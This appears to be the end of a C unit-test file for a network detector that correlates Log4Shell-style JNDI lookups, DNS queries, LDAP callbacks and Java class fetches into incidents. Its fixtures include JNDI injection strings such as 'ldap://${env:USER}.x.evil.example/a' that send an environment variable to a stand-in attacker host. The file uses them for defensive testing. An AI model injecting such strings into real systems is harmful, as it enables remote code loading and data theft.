                finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT,
                        "yes", ATTR_JAVA_FETCH, "delivered", ATTR_HTTP_HOST, "203.0.113.9:8888",
                        ATTR_HTTP_URI, "/x/tom%63at/P.class", ATTR_N);
        correlate_finish(t->correlate);
        assert_int_equal(t->n_leaks, 2);
        assert_int_equal(t->incident->leaks->next->place, LEAK_HTTP);
        restart(t);
    }
    /* By a host that is no JVM's fetch of Java code: nobody's. */
    lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
    callback(t, 1, 9, "tomcat", T0 + S);
    finding(t, home(1), out(9), 8888, 1, "http", T0 + 2 * S, "class_delivery", ATTR_JAVA_CLIENT, "no",
            ATTR_JAVA_FETCH, "delivered", ATTR_HTTP_HOST, "203.0.113.9:8888", ATTR_HTTP_URI,
            "/tomcat/P.class", ATTR_N);
    correlate_finish(t->correlate);
    assert_int_equal(t->n_leaks, 1);
    restart(t);
}

static unsigned n_doubts(const struct incident *i)
{
    unsigned n = 0;

    for (const struct doubt *d = i->doubts; d; d = d->next)
        n++;
    return incident_doubted(i) ? n : 0;
}

/* The question of a resolver, and the lookups of three victims, in every order. */
static void a_resolver_asks_for_one_of_them(void **state)
{
    struct setting *t = *state;

    for (unsigned at = 0; at < 4; at++) {
        for (unsigned k = 0; k < 4; k++)
            if (k == at)
                dns(t, 53, "tomcat.x.evil.example", nobody, T0 + 9 * S);
            else
                lookup(t, (uint8_t)(k < at ? k + 1 : k), "ldap://${env:USER}.x.evil.example/a", T0 + k * S);
        correlate_finish(t->correlate);
        assert_int_equal(n_doubts(t->incident), 2);
        assert_int_equal(t->incident->confidence, at == 3 ? 20 : at == 2 ? 30 : 60);
        for (const char *told = t->told; *told; told += 9) /* one of them, however often */
            assert_memory_equal(told, t->told, 3);
        restart(t);
    }
    /* Who is seen to ask, or to call, is in no doubt. */
    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
    lookup(t, 2, "ldap://${env:USER}.x.evil.example/a", T0);
    dns(t, 53, "tomcat.x.evil.example", out(9), T0 + S);
    assert_string_equal(t->told, "v2 ");
    assert_int_equal(n_doubts(t->incident), 1);
    connection(t, 2, out(9), 389, CONNECTION_REFUSED, "", T0 + 2 * S);
    correlate_finish(t->correlate);
    assert_int_equal(n_doubts(t->incident), 0);
    told_is(t, "v2 v2 ");
    /* The victim's own question was told; its resolver's is the same one. */
    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
    lookup(t, 2, "ldap://${env:USER}.x.evil.example/a", T0);
    dns(t, 1, "tomcat.x.evil.example", nobody, T0 + S);
    dns(t, 53, "tomcat.x.evil.example", nobody, T0 + S);
    told_is(t, "v1 ");
    /* Another payload's name, and a lookup that came later. */
    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
    lookup(t, 2, "ldap://${env:USER}.y.evil.example/a", T0);
    lookup(t, 3, "ldap://${env:USER}.x.evil.example/a", T0 + 5 * S);
    dns(t, 53, "tomcat.x.evil.example", nobody, T0 + S);
    assert_int_equal(n_doubts(t->incident), 0);
    told_is(t, "v1 ");
}

static void a_window_ends(void **state)
{
    struct setting *t = *state;
    struct complaint why = {{0}};

    assert_true(config_set(t->config, "correlate.window=60s", &why));
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + 61 * S);
    told_is(t, "");
}

static void memory_stays_below_its_ceiling(void **state)
{
    struct setting *t = *state;
    char name[64];

    for (unsigned n = 0; n < 20000; n++) {
        snprintf(name, sizeof name, "ldap://203.0.113.%u:%u/a", 1 + n % 250, 1024 + n % 60000);
        lookup(t, (uint8_t)(1 + n % 200), name, T0 + n);
    }
    assert_true(counters[COUNT_CORRELATE_EVICTED] > 10000);
    /* The latest is there still. */
    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0 + S);
    callback(t, 1, 9, "a", T0 + 2 * S);
    assert_string_equal(t->told, "v1 ");
    restart(t);
    /* However many came further, an attempt is kept for what may come of it. */
    for (unsigned n = 0; n < 5000; n++) {
        t->told[0] = '\0';
        finding(t, home((uint8_t)(1 + n % 200)), out((uint8_t)(1 + n % 250)), (uint16_t)(1024 + n), 0, "ldap",
                T0 + n, "callback", ATTR_LDAP_CLIENT, "jndi", ATTR_N);
    }
    assert_true(counters[COUNT_CORRELATE_EVICTED] > 1000);
    lookup(t, 7, "ldap://203.0.113.9:1389/a", T0 + S);
    lookup(t, 8, "ldap://203.0.113.9:1389/a", T0 + S);
    t->told[0] = '\0';
    connection(t, 7, out(9), 1389, CONNECTION_REFUSED, "", T0 + 2 * S);
    told_is(t, "v7 ");
}

#define with_story(test) cmocka_unit_test_setup_teardown(test, setup, teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        with_story(a_whole_attack_is_one_incident),
        with_story(a_clock_that_was_set_back_delays_nothing),
        with_story(what_came_of_it_may_be_known_first),
        with_story(any_order_gives_the_same_verdict),
        with_story(the_callback_may_be_refused_or_never_answered),
        with_story(datagrams_may_be_unreachable),
        with_story(what_is_unreachable_may_be_known_before_its_lookup),
        with_story(a_name_resolved_long_ago_places_nothing),
        with_story(a_place_is_left_when_its_name_goes_elsewhere),
        with_story(a_connection_and_its_words_count_once),
        with_story(what_does_not_promote),
        with_story(an_echo_is_no_incident),
        with_story(nobody_calls_back_for_a_name_that_no_jdk_follows),
        with_story(popular_places_and_scans_do_not_promote),
        with_story(a_callback_without_its_lookup_is_a_story_too),
        with_story(a_class_without_its_lookup),
        with_story(a_second_victim_is_linked_to_the_first),
        with_story(values_come_back_in_the_callback),
        with_story(values_come_back_in_a_fetch),
        with_story(a_resolver_asks_for_one_of_them),
        with_story(a_window_ends),
        with_story(memory_stays_below_its_ceiling),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
